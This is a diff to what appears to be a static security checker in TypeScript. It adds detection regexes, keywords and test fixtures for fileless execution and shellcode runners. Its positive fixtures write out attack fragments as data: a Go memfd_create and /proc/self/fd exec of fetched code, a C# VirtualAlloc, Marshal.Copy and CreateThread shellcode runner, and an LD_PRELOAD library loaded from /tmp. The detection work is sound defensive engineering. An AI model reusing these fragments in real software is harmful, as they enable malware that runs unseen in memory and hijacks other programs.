@@ -10,6 +10,14 @@ const COMMANDS =
   /\brundll32(?:\.exe)?(?![\s\S]{0,80}(?:url\.dll,\s{0,2}FileProtocolHandler|shell32(?:\.dll)?,\s{0,2}OpenAs_RunDLL|user32(?:\.dll)?,\s{0,2}LockWorkStation|user(?:\.exe)?,\s{0,2}ExitWindows|powrprof(?:\.dll)?,\s{0,2}SetSuspendState))["']?,?\s{1,3}[^\s|][^\n]{0,80}|\bLD_PRELOAD["']?\s{0,2}[=,]\s{0,2}["']?\/(?:tmp|var\/tmp|dev\/shm)\/[^\s"']{1,80}|\bregsvr32(?:\.exe)?\s{1,3}\/s\b[^\n]{0,80}/gi;
 const MEMORY = /\bVirtualAlloc(?:Ex)?\b|\bVirtualProtect\b|\bmmap\b/;
 
+/** A file that lies in memory alone, or memory that is filled and then run: nothing on the disk shows what it was. */
+const IN_MEMORY =
+  /\b(?:unix\.MemfdCreate|memfd_create)\s{0,2}\(|\bSyscall\(\s{0,3}(?:319|unix\.SYS_MEMFD_CREATE)\b|\bCreateThread\s{0,2}\(\s{0,3}(?:IntPtr\.Zero|0|NULL|None|ptr::null\w{0,6}\(\))\s{0,3},/g;
+const RUN_FROM_MEMORY = /["'`]\/proc\/(?:self|%d|\{\w{0,20}\})\/fd\/|\bfexecve\b/;
+const FETCHED = /https?:\/\/|\bbase64\b|\bhex\.Decode/i;
+const FILLED =
+  /\bVirtualAlloc(?:Ex)?\b[^]{0,1500}\b(?:Marshal\.Copy|CopyMemory|RtlCopyMemory|memcpy|copy_nonoverlapping|memmove)\b/;
+
 /** How a program gets at another one; its own threads it may call as it likes. */
 const OF_ANOTHER =
   /\b(?:VirtualAllocEx|WriteProcessMemory|OpenProcess|OpenThread|NtMapViewOfSection|CREATE_SUSPENDED)\b/;
@@ -43,6 +51,9 @@ export const check: FileCheck = {
       'rundll32',
       'regsvr32',
       'ld_preload',
+      'memfd',
+      'syscall(319',
+      'createthread(',
       'inject.',
       'injector.',
     ],
@@ -56,6 +67,18 @@ export const check: FileCheck = {
         'start.cc': `
           CreateProcess(path, NULL, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi);
           «QueueUserAPC(»(PAPCFUNC)address, pi.hThread, NULL);`,
+      },
+      {
+        'run.go': `
+          resp, _ := http.Get("https://cdn.example.net/a")
+          fd, _, _ := syscall.«Syscall(319», name, 1, 0)
+          syscall.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), nil, nil)`,
+      },
+      {
+        'run.cs': `
+          var m = VirtualAlloc(IntPtr.Zero, size, 0x3000, 0x40);
+          Marshal.Copy(code, 0, m, code.Length);
+          «CreateThread(IntPtr.Zero,» 0, m, IntPtr.Zero, 0, IntPtr.Zero);`,
       },
       { 'pre.py': 'os.system("«LD_PRELOAD=/tmp/.x.so» /usr/bin/ssh")\n' },
     ],
@@ -72,6 +95,8 @@ export const check: FileCheck = {
       },
       { 'open.ts': 'exec(`rundll32.exe shell32.dll,OpenAs_RunDLL ` + filePath);\n' },
       { 'watch.cc': 'QueueUserAPC([](ULONG_PTR) {}, mThread.native_handle(), (ULONG_PTR)this);\n' },
+      { 'share.go': 'fd, err := unix.MemfdCreate("frame", 0)\nerr = unix.Ftruncate(fd, size)\n' },
+      { 'worker.c': 'handle = CreateThread(NULL, 0, work, argument, 0, NULL);\n' },
       { 'note.py': 'text = "a string that names CreateRemoteThread"\n' },
       { 'lib.py': 'lib = ctypes.CDLL("libc.so.6")\n' },
       { 'export.cs': 'foreach (var injector in injectors) injector.Inject(folder);\n' },
@@ -96,6 +121,16 @@ export const check: FileCheck = {
         yield {
           at: window.spanOf(match),
           message: 'The code puts other code into a program that is running, or loads it under a false name.',
+        };
+      }
+      for (const match of window.text.matchAll(IN_MEMORY)) {
+        const isThread = match[0].startsWith('CreateThread');
+        const isRun = isThread ? FILLED.test(text) : RUN_FROM_MEMORY.test(text) && FETCHED.test(text);
+        if (!isRun || isTold(window.start + match.index)) continue;
+        yield {
+          at: window.spanOf(match),
+          message: 'The code runs a program that lies in memory alone, where nobody can look at it.',
+          confidence: 'medium',
         };
       }
       for (const match of window.text.matchAll(COMMANDS)) {
